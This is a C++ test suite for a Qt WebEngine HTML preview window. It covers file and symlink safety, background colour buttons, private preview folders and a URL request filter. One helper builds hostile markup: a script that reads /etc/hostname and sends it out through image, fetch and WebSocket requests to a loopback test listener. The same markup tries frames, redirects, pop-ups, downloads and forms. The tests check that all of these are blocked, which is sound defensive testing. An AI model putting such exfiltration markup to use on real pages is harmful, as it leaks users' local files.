#include "engine/RandomSource.h"
#include "forms/preview/BackgroundLines.h"
#include "forms/preview/PreviewFile.h"
#include "forms/preview/PreviewFolder.h"
#include "forms/preview/PreviewNotices.h"
#include "forms/preview/PreviewRequestFilter.h"
#include "forms/preview/Tinta2.h"
#include "forms/preview/ViewHtmlFade.h"
#include "tests/testing/FreshUserFolders.h"
#include "tests/testing/KeyboardTour.h"
#include "tests/testing/TestFiles.h"
#include "winhelpers/Services.h"
#include "winhelpers/testing/AnsweringDialogs.h"

#include <QApplication>
#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QHostAddress>
#include <QImage>
#include <QPushButton>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineDownloadRequest>
#include <QWebEngineProfile>
#include <QWebEngineView>

#include <gtest/gtest.h>

#include <algorithm>
#include <csignal>
#include <limits>
#include <pwd.h>
#include <sys/resource.h>
#include <tuple>
#include <unistd.h>

using namespace Qt::StringLiterals;

namespace {

constexpr int SettleTimeoutMs = 5000;

// What the file holds after "View HTML Fade" with the given opening line and fragment bytes.
QByteArray PageBytes(const QByteArray &line1, const QByteArray &fragment)
{
    return "\xEF\xBB\xBF" + line1 + "\r\n" + fragment + "</BODY></HTML>\r\n";
}

// Waits, at most a few seconds, until the page under way has loaded, however many refused
// attempts to leave it report their failure meanwhile.
bool WaitForLoad(QWebEngineView &view)
{
    QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
    return QTest::qWaitFor(
        [&] {
            return std::ranges::any_of(
                loaded, [](const QList<QVariant> &args) { return args[0].toBool(); });
        },
        10000);
}

// The colour a user sees at a point of the view once it has settled, within a few seconds. The
// caller compares what was seen, which names the colour when it never settled.
QColor SettledPixel(QWebEngineView &view, QPoint point, QColor expected)
{
    QColor seen;
    static_cast<void>(QTest::qWaitFor(
        [&] { return (seen = view.grab().toImage().pixelColor(point)) == expected; },
        SettleTimeoutMs));
    return seen;
}

// The text the page shows.
QString ShownText(QWebEngineView &view)
{
    std::optional<QString> result;
    view.page()->toPlainText([&](const QString &text) { result = text; });
    EXPECT_TRUE(QTest::qWaitFor([&] { return result.has_value(); }, SettleTimeoutMs))
        << "no text came back";
    return result.value_or(QString());
}

// A main window, its services and a preview file in a folder of its own.
class PreviewWindow : public testing::Test
{
protected:
    PreviewWindow() { mainWindow.resize(200, 100); }

    Tinta2 *view(const QString &outputText, bool stayOnTop = false)
    {
        return ViewHtmlFade(mainWindow, outputText, services, stayOnTop, file);
    }
    Tinta2 *viewAndLoad(const QString &outputText)
    {
        Tinta2 *preview = view(outputText);
        EXPECT_TRUE(preview && WaitForLoad(*preview->browser())) << "the preview did not load";
        return preview;
    }
    static void click(Tinta2 &preview, const char *button)
    {
        auto *pushButton = preview.findChild<QPushButton *>(QLatin1String(button));
        ASSERT_NE(pushButton, nullptr) << button;
        QTest::mouseClick(pushButton, Qt::LeftButton);
    }
    QByteArray fileBytes() const { return ReadBytes(file.path()); }

    QTemporaryDir folder;
    PreviewFile file {folder.path()};
    AnsweringDialogs dialogs;
    RandomSource random {1};
    Services services {dialogs, random};
    QWidget mainWindow;
};

using PreviewFileTest = PreviewWindow;
using HostileMarkup = PreviewWindow;

TEST_F(PreviewFileTest, NeverWritesNorReadsThroughALinkPlantedUnderItsName)
{
    QTemporaryDir elsewhere;
    const QString target = elsewhere.filePath(u"precious"_s);
    WriteBytes(target, "precious\r\nlines\r\n");
    ASSERT_TRUE(QFile::link(target, file.path()));
    EXPECT_EQ(file.replaceOpeningLine(WhiteOpeningLine()), PreviewFile::Replaced::NothingToReplace);
    ASSERT_TRUE(file.writeForView(u"<B>x</B>"_s));
    EXPECT_FALSE(QFileInfo(file.path()).isSymLink());
    EXPECT_EQ(fileBytes(), PageBytes("<HTML><BODY>", "<B>x</B>"));
    EXPECT_EQ(ReadBytes(target), QByteArray("precious\r\nlines\r\n"));

    file.remove();
    ASSERT_TRUE(QFile::link(target, file.path()));
    file.remove();
    EXPECT_FALSE(QFileInfo(file.path()).isSymLink());
    EXPECT_EQ(ReadBytes(target), QByteArray("precious\r\nlines\r\n"));
}

TEST_F(PreviewFileTest, ReplacingTheOpeningLineKeepsEverythingAfterItOrLeavesTheFileAlone)
{
    using enum PreviewFile::Replaced;
    // What the file holds (none: no file), what becomes of it, and what it holds then.
    const std::tuple<const char *, std::optional<QByteArray>, PreviewFile::Replaced, QByteArray>
        cases[] = {{"page", PageBytes("<HTML><BODY>", "<B>a\r\nb</B>\r\nc"), Yes,
                    PageBytes("<HTML><BODY BGCOLOR=\"white\">", "<B>a\r\nb</B>\r\nc")},
                   {"missing", std::nullopt, NothingToReplace, {}},
                   {"empty", "", NothingToReplace, ""},
                   {"one line", "<HTML><BODY>\r\n", NothingToReplace, "<HTML><BODY>\r\n"},
                   {"one line without line end", "<HTML><BODY>", NothingToReplace, "<HTML><BODY>"}};
    for (const auto &[name, before, replaced, after] : cases) {
        SCOPED_TRACE(name);
        file.remove();
        if (before)
            WriteBytes(file.path(), *before);
        EXPECT_EQ(file.replaceOpeningLine(WhiteOpeningLine()), replaced);
        EXPECT_EQ(QFile::exists(file.path()), before.has_value());
        EXPECT_EQ(fileBytes(), after);
    }
}

// A critical "Error" box that names what failed.
void ExpectError(const Notice &notice, const QStringList &named)
{
    EXPECT_EQ(notice.title, u"Error"_s);
    EXPECT_EQ(notice.icon, NoticeIcon::Critical);
    for (const QString &name : named)
        EXPECT_TRUE(notice.text.contains(name)) << notice.text.toStdString();
}

TEST_F(PreviewWindow, RefusalsAndFailuresShowOneMessageEachAndOpenNothing)
{
    size_t shown = 0;
    const auto refused = [&](const Tinta2 *preview) {
        EXPECT_EQ(preview, nullptr);
        EXPECT_FALSE(QFile::exists(file.path()));
        EXPECT_EQ(mainWindow.findChild<Tinta2 *>(), nullptr);
        EXPECT_EQ(dialogs.notices().size(), ++shown);
        return dialogs.notices().empty() ? Notice {} : dialogs.notices().back();
    };
    for (const QString &text :
         {QString(), u"   "_s, u"a plain word"_s, u"only <opening"_s, u"only closing>"_s})
        EXPECT_EQ(refused(view(text)), NoFadeNotice()) << text.toStdString();

    {
        const auto helper =
            SetVariableInScope("QTWEBENGINEPROCESS_PATH", "/nowhere/QtWebEngineProcess");
        ExpectError(refused(view(u"<B>x</B>"_s)),
                    {u"\"/nowhere/QtWebEngineProcess\""_s, u"libqt6webenginecore6-bin"_s});
    }

    WriteBytes(folder.filePath(u"not a folder"_s), "x");
    const PreviewFile unwritable(folder.filePath(u"not a folder"_s));
    ExpectError(refused(ViewHtmlFade(mainWindow, u"<B>x</B>"_s, services, false, unwritable)),
                {unwritable.path()});
}

TEST_F(PreviewWindow, BackgroundButtonsRewriteLineOneAndKeepTheRest)
{
    // Every character that could end the attribute or start a reference or an address's part.
    const QString picture = u"/pics/my \"best\" #1 50% & 'q' <x>.jpg"_s;
    const QByteArray pictureLine =
        "<HTML><BODY BACKGROUND=\"file:///pics/"
        "my%20%22best%22%20%231%2050%25%20%26%20%27q%27%20%3Cx%3E.jpg\">";
    // Buttons clicked, the colour and picture chosen (none: the chooser is cancelled), and the
    // opening line written.
    const std::tuple<std::vector<const char *>, std::optional<ColorValue>, QString, QByteArray>
        cases[] = {{{"Command1"}, RGB(255, 128, 0), {}, "<HTML><BODY BGCOLOR=\"#FF8000\">"},
                   {{"Command1"}, 0, {}, "<HTML><BODY BGCOLOR=\"#000000\">"},
                   {{"Command2"}, {}, picture, pictureLine},
                   {{"Command3"}, {}, {}, "<HTML><BODY BGCOLOR=\"white\">"},
                   {{"Command2", "Command3"}, {}, picture, "<HTML><BODY BGCOLOR=\"white\">"},
                   {{"Command1"}, {}, {}, "<HTML><BODY>"},
                   {{"Command2"}, {}, {}, "<HTML><BODY>"}};
    for (const auto &[buttons, color, chosenPicture, line1] : cases) {
        SCOPED_TRACE(line1.toStdString());
        // Viewing again writes the plain page afresh into the open window, in UTF-8 with CR LF.
        Tinta2 *preview = view(u"<B>\u00E5\U0001F600 a\nb\r\nc\rd</B>"_s);
        ASSERT_NE(preview, nullptr);
        if (color)
            dialogs.answerColor(color);
        if (!chosenPicture.isEmpty())
            dialogs.answerOpenFile(chosenPicture);
        for (const char *button : buttons)
            click(*preview, button);
        EXPECT_EQ(fileBytes(),
                  PageBytes(line1, "<B>\xC3\xA5\xF0\x9F\x98\x80 a\r\nb\r\nc\r\nd</B>"));
    }
    EXPECT_TRUE(dialogs.notices().empty());
}

// The picture chooser offers every picture format the preview shows, in the user's Pictures
// folder, or at home while there is none.
TEST_F(PreviewWindow, BackPictureLooksInThePicturesFolderForEveryFormatShown)
{
    Tinta2 *preview = view(u"<B>x</B>"_s);
    ASSERT_NE(preview, nullptr);
    const QDir home = QDir::home();
    click(*preview, "Command2");
    home.mkdir(u"Pictures"_s);
    click(*preview, "Command2");
    home.rmdir(u"Pictures"_s);
    const auto &asked = dialogs.filesAsked();
    ASSERT_EQ(asked.size(), 2U);
    EXPECT_EQ(asked[0].first, home.path());
    EXPECT_EQ(asked[1].first, home.filePath(u"Pictures"_s));
    const QStringList patterns = asked[0].second.split(QRegularExpression(u"[() ]"_s));
    for (const QString &pattern : u"*.png *.jpg *.jpeg *.gif *.webp *.bmp *.svg"_s.split(u' '))
        EXPECT_TRUE(patterns.contains(pattern)) << pattern.toStdString();
}

// "Clear Background" reports a page it cannot write and keeps it; without a page to clear, it
// leaves the shown page alone instead of loading a missing file, and says nothing.
TEST_F(PreviewWindow, ClearingKeepsAPageItCannotWriteAndDoesNothingWithoutOne)
{
    Tinta2 *preview = viewAndLoad(u"<B>x</B>"_s);
    ASSERT_NE(preview, nullptr);
    const QByteArray before = fileBytes();
    {
        // Files this process writes may not grow beyond a few bytes while it clicks.
        rlimit saved {};
        getrlimit(RLIMIT_FSIZE, &saved);
        const auto oldHandler = std::signal(SIGXFSZ, SIG_IGN);
        const auto restore = qScopeGuard([&] {
            setrlimit(RLIMIT_FSIZE, &saved);
            std::signal(SIGXFSZ, oldHandler);
        });
        const rlimit limit {8, saved.rlim_max};
        setrlimit(RLIMIT_FSIZE, &limit);
        click(*preview, "Command3");
    }
    EXPECT_EQ(fileBytes(), before);
    ASSERT_EQ(dialogs.notices().size(), 1U);
    ExpectError(dialogs.notices().front(), {file.path()});
    EXPECT_EQ(QDir(folder.path()).entryList(QDir::Files), QStringList {PreviewFile::FileName})
        << "no half-written copy is left behind";

    QFile::remove(file.path());
    QSignalSpy started(preview->browser(), &QWebEngineView::loadStarted);
    click(*preview, "Command3");
    QTest::qWait(100);
    EXPECT_EQ(dialogs.notices().size(), 1U);
    EXPECT_EQ(started.count(), 0);
    EXPECT_FALSE(QFile::exists(file.path()));
}

// The preview opens showing the fragment's text, not its markup, over the background chosen;
// Tab goes round its three buttons. A view while the window is open writes the file without
// reloading the page and follows the main window's "Form Stay On Top" check mark. Escape closes
// the window, also from the page.
TEST_F(PreviewWindow, ShowsTheFragmentAndAViewWhileOpenRewritesWithoutReloading)
{
    QPointer<Tinta2> preview =
        viewAndLoad(u"<FONT COLOR=\"#FF0000\"><B>M</B></FONT>\u00E5\u0192\u2020\u2021 \u00E9"_s);
    ASSERT_TRUE(preview);
    const auto onTop = [&] {
        return preview->windowFlags().testFlag(Qt::WindowStaysOnTopHint);
    };
    EXPECT_FALSE(onTop());
    QWebEngineView &page = *preview->browser();
    const QString shown = u"M\u00E5\u0192\u2020\u2021 \u00E9"_s;
    EXPECT_EQ(ShownText(page), shown);
    // A key that types several characters at once, as a compose sequence may, leaves the page
    // as it is.
    QApplication::setActiveWindow(preview);
    ExpectKeyboardTour(*preview, u"Command1 Command2 Command3"_s);
    page.setFocus();
    QTest::sendKeyEvent(QTest::Click, preview->windowHandle(), Qt::Key_unknown,
                        u"ab\U0001F44D\U0001F3FD"_s, Qt::NoModifier);
    EXPECT_EQ(ShownText(page), shown);
    // A corner of the page, inside the body's margin, where only the background shows.
    const QPoint corner(3, 3);
    EXPECT_EQ(SettledPixel(page, corner, Qt::white), QColor(Qt::white));
    dialogs.answerColor(RGB(255, 128, 0));
    click(*preview, "Command1");
    ASSERT_TRUE(WaitForLoad(page));
    EXPECT_EQ(SettledPixel(page, corner, QColor(255, 128, 0)), QColor(255, 128, 0));

    QSignalSpy started(&page, &QWebEngineView::loadStarted);
    EXPECT_EQ(view(u"<I>second</I>"_s, true), preview);
    EXPECT_TRUE(onTop());
    QTest::qWait(200);
    EXPECT_EQ(started.count(), 0);
    EXPECT_EQ(fileBytes(), PageBytes("<HTML><BODY>", "<I>second</I>"));
    EXPECT_EQ(ShownText(page), shown);
    view(u"<I>second</I>"_s, false);
    EXPECT_FALSE(onTop());

    page.setFocus();
    QTest::keyClick(preview->focusWidget(), Qt::Key_Escape);
    EXPECT_FALSE(QFile::exists(file.path()));
    EXPECT_TRUE(QTest::qWaitFor([&] { return preview.isNull(); }, 2000));
    // A later view opens a new window, on top when the check mark says so.
    Tinta2 *again = view(u"<I>y</I>"_s, true);
    ASSERT_NE(again, nullptr);
    EXPECT_TRUE(again->windowFlags().testFlag(Qt::WindowStaysOnTopHint));
}

// A listener on the loopback that counts every connection made to it.
class Listener
{
public:
    Listener()
    {
        EXPECT_TRUE(m_server.listen(QHostAddress::LocalHost));
        QObject::connect(&m_server, &QTcpServer::newConnection, [this] {
            while (m_server.nextPendingConnection())
                ++m_connections;
        });
    }

    QString url(const QString &path) const
    {
        return u"http://127.0.0.1:%1/%2"_s.arg(m_server.serverPort()).arg(path);
    }

    int connections() const { return m_connections; }

private:
    QTcpServer m_server;
    int m_connections = 0;
};

// Markup that tries every way out of the page: scripts that read a local file and send it,
// resources, a frame and a refresh that call the listener, links, a pop-up, a download and a
// form that a click would follow, and a picture from elsewhere on the disk.
QString hostileMarkup(const Listener &listener, const QString &localPicture)
{
    const QString ws = listener.url(u"socket"_s).replace(u"http:"_s, u"ws:"_s);
    return uR"(<script>
var request = new XMLHttpRequest();
request.open("GET", "file:///etc/hostname", false);
request.send();
new Image().src = "%1?" + encodeURIComponent(request.responseText);
fetch("%2");
new WebSocket("%3");
document.title = "script ran";
</script>
<img src="%4"><link rel="stylesheet" href="%5"><iframe src="%6"></iframe>
<meta http-equiv="refresh" content="0; url=%7">
<a href="%8" style="position:absolute;left:40px;top:40px;width:60px;height:30px;display:block">a</a>
<a href="%9" target="_blank" style="position:absolute;left:110px;top:40px;width:60px;height:30px;display:block">b</a>
<a href="%10" download style="position:absolute;left:180px;top:40px;width:60px;height:30px;display:block">c</a>
<form action="%11"><input type="submit" style="position:absolute;left:40px;top:100px;width:60px;height:30px"></form>
<img src="%12" style="position:absolute;left:150px;top:100px;width:40px;height:40px">)"_s
        .arg(listener.url(u"xhr"_s), listener.url(u"fetch"_s), ws, listener.url(u"image"_s),
             listener.url(u"style"_s), listener.url(u"frame"_s), listener.url(u"refresh"_s),
             listener.url(u"link"_s), listener.url(u"popup"_s))
        .arg(listener.url(u"download"_s), listener.url(u"form"_s),
             QUrl::fromLocalFile(localPicture).toString());
}

// Where each link and the button stand on the page.
const QPoint Targets[] = {{70, 55}, {140, 55}, {210, 55}, {70, 115}};

QString savePicture(const QString &path, QColor colour)
{
    QImage picture(16, 16, QImage::Format_RGB32);
    picture.fill(colour);
    EXPECT_TRUE(picture.save(path, "PNG"));
    return path;
}

TEST(PreviewRequestFilter, LetsThroughOnlyThePageAndTheChosenPicture)
{
    const QUrl page =
        QUrl::fromLocalFile(u"/run/user/1000/Tintra-preview-1-a/DUVxORxQYzVIEWER.HTM"_s);
    PreviewRequestFilter filter(page);
    const QString picture = u"/home/me/my \"best\" #1 50% & caf\u00E9's.png"_s;
    EXPECT_FALSE(filter.allows(QUrl(PictureUrl(picture))));
    filter.allowPicture(picture);
    const std::pair<QUrl, bool> cases[] = {{page, true},
                                           {QUrl(PictureUrl(picture)), true},
                                           {QUrl::fromLocalFile(picture), true},
                                           {QUrl(PictureUrl(picture) + u"?leak=1"_s), false},
                                           {QUrl(u"file:///etc/hostname"_s), false},
                                           {QUrl(u"file://elsewhere/home/me/picture.png"_s), false},
                                           {QUrl(u"http://127.0.0.1:8080/"_s), false},
                                           {QUrl(u"data:image/png;base64,AAAA"_s), false}};
    for (const auto &[url, allowed] : cases)
        EXPECT_EQ(filter.allows(url), allowed) << url.toString().toStdString();
    // A later choice takes the place of the earlier one.
    filter.allowPicture(u"/home/me/other.png"_s);
    EXPECT_FALSE(filter.allows(QUrl::fromLocalFile(picture)));
}

TEST_F(HostileMarkup, ReachesNothingAndThePictureBackgroundStillShows)
{
    Listener listener;
    QTemporaryDir elsewhere;
    const QString red = savePicture(elsewhere.filePath(u"private.png"_s), Qt::red);
    Tinta2 *preview = viewAndLoad(hostileMarkup(listener, red));
    ASSERT_NE(preview, nullptr);
    const qsizetype windows = QApplication::topLevelWidgets().size();
    QWebEngineView &page = *preview->browser();
    for (const QPoint target : Targets)
        QTest::mouseClick(page.focusProxy(), Qt::LeftButton, {}, target);
    QTest::qWait(500);

    dialogs.answerOpenFile(savePicture(folder.filePath(u"back.png"_s), Qt::blue));
    click(*preview, "Command2");
    ASSERT_TRUE(WaitForLoad(page));
    EXPECT_EQ(SettledPixel(page, {3, 3}, Qt::blue), QColor(Qt::blue));
    EXPECT_NE(page.grab().toImage().pixelColor(170, 120), QColor(Qt::red)); // the local picture

    // Time for anything under way to arrive.
    QTest::qWait(1000);
    EXPECT_EQ(listener.connections(), 0);
    EXPECT_NE(page.title(), u"script ran"_s);
    EXPECT_EQ(page.url(), file.url());
    EXPECT_EQ(QApplication::topLevelWidgets().size(), windows);
}

TEST_F(HostileMarkup, NothingIsDownloaded)
{
    Tinta2 *preview = viewAndLoad(u"<B>x</B>"_s);
    ASSERT_NE(preview, nullptr);
    QWebEnginePage &page = *preview->browser()->page();
    std::optional<QWebEngineDownloadRequest::DownloadState> state;
    QObject::connect(
        page.profile(), &QWebEngineProfile::downloadRequested,
        [&state](const QWebEngineDownloadRequest *download) { state = download->state(); });
    page.download(file.url());
    ASSERT_TRUE(QTest::qWaitFor([&] { return state.has_value(); }, 5000));
    EXPECT_EQ(state, QWebEngineDownloadRequest::DownloadCancelled);
}

constexpr QFile::Permissions OwnerOnly = QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner;

QFile::Permissions permissions(const QString &path)
{
    // Qt reports the owner's rights twice, as the owner's and as the user's.
    return QFileInfo(path).permissions() & ~(QFile::ReadUser | QFile::WriteUser | QFile::ExeUser);
}

// The start of the names of this program's preview folders.
const QString OwnPrefix = u"Tintra-preview-%1-"_s.arg(QCoreApplication::applicationPid());

// Each folder, two in one program as in two programs, is private, holds its own page, and goes
// with everything in it, leaving the other alone.
TEST(PreviewFolder, IsPrivateToItsProgramAndGoesWithEverythingInIt)
{
    QTemporaryDir parent;
    auto first = std::make_unique<PreviewFolder>(parent.path());
    const PreviewFolder second(parent.path());
    ASSERT_NE(first->path(), second.path());
    const QFileInfo info(first->path());
    EXPECT_EQ(info.absolutePath(), parent.path());
    EXPECT_TRUE(info.fileName().startsWith(OwnPrefix)) << first->path().toStdString();
    EXPECT_EQ(permissions(first->path()), OwnerOnly);
    const PreviewFile firstPage(first->path());
    const PreviewFile secondPage(second.path());
    ASSERT_TRUE(firstPage.writeForView(u"<B>first</B>"_s));
    ASSERT_TRUE(QDir().mkdir(first->path() + u"/inner"_s));
    ASSERT_TRUE(secondPage.writeForView(u"<B>second</B>"_s));

    first.reset();
    EXPECT_FALSE(QFileInfo::exists(info.filePath()));
    EXPECT_TRUE(ReadBytes(secondPage.path()).contains("second"));
}

TEST(PreviewFolder, RemovesTheFoldersOfProgramsNoLongerRunningAndNothingElse)
{
    QTemporaryDir parent;
    const QDir folder(parent.path());
    const QString deadPid = QString::number(std::numeric_limits<pid_t>::max());
    const QString dead = u"Tintra-preview-"_s + deadPid + u"-a1B2c3"_s;
    ASSERT_TRUE(folder.mkpath(dead + u"/inner"_s));
    WriteBytes(folder.filePath(dead + u"/DUVxORxQYzVIEWER.HTM"_s), "old page");
    QTemporaryDir elsewhere;
    WriteBytes(elsewhere.filePath(u"keep"_s), "keep");
    const QString linked = u"Tintra-preview-"_s + deadPid + u"-link"_s;
    ASSERT_TRUE(QFile::link(elsewhere.path(), folder.filePath(linked)));
    const QStringList kept {u"Tintra-preview-1-xYz123"_s, OwnPrefix + u"other"_s,
                            u"Tintra-"_s + deadPid + u"-abc"_s, u"Tintra-preview-x-abc"_s};
    for (const QString &name : kept)
        ASSERT_TRUE(folder.mkdir(name));

    const PreviewFolder fresh(parent.path());
    EXPECT_FALSE(QFileInfo::exists(folder.filePath(dead)));
    for (const QString &name : kept)
        EXPECT_TRUE(QFileInfo(folder.filePath(name)).isDir()) << name.toStdString();
    EXPECT_TRUE(QFileInfo(folder.filePath(linked)).isSymLink());
    EXPECT_EQ(ReadBytes(elsewhere.filePath(u"keep"_s)), QByteArray("keep"));
}

// A user without a runtime folder: without the variable Qt makes do with "runtime-<user>" in
// the temporary folder, and gives up when that name is taken by something that is not the
// user's private folder. A private folder of the cache serves then, and without a cache there is
// no folder and no page.
TEST(PreviewFolder, WithoutARuntimeFolderUsesThePrivateCacheOrNone)
{
    FreshUserFolders user;
    const QDir home(user.home());
    user.set("XDG_RUNTIME_DIR", {});
    user.set("TMPDIR", user.home().toLocal8Bit());
    WriteBytes(home.filePath(u"runtime-"_s + QString::fromLocal8Bit(getpwuid(geteuid())->pw_name)),
               "taken");
    const QString cacheFolder = qEnvironmentVariable("XDG_CACHE_HOME") + u'/' +
        QCoreApplication::applicationName() + u"/preview"_s;
    {
        const PreviewFolder folder;
        EXPECT_EQ(QFileInfo(folder.path()).absolutePath(), cacheFolder);
        EXPECT_EQ(permissions(cacheFolder), OwnerOnly);
        EXPECT_TRUE(PreviewFile(folder.path()).writeForView(u"<B>x</B>"_s));
    }
    // A link in the private folder's place, to a folder others may read, is neither used nor
    // made private.
    ASSERT_TRUE(QDir().rmdir(cacheFolder));
    QTemporaryDir elsewhere;
    const QFile::Permissions open = OwnerOnly | QFile::ReadOther | QFile::ExeOther;
    QFile::setPermissions(elsewhere.path(), open);
    ASSERT_TRUE(QFile::link(elsewhere.path(), cacheFolder));
    EXPECT_TRUE(PreviewFolder().path().isEmpty());
    EXPECT_EQ(permissions(elsewhere.path()), open);
    EXPECT_TRUE(QDir(elsewhere.path()).isEmpty());
    WriteBytes(home.filePath(u"not a folder"_s), "x");
    user.set("XDG_CACHE_HOME", home.filePath(u"not a folder"_s).toLocal8Bit());
    const PreviewFolder folder;
    EXPECT_TRUE(folder.path().isEmpty());
    EXPECT_FALSE(folder.errorString().isEmpty());
    EXPECT_FALSE(PreviewFile(folder.path()).writeForView(u"<B>x</B>"_s));
}

} // namespace
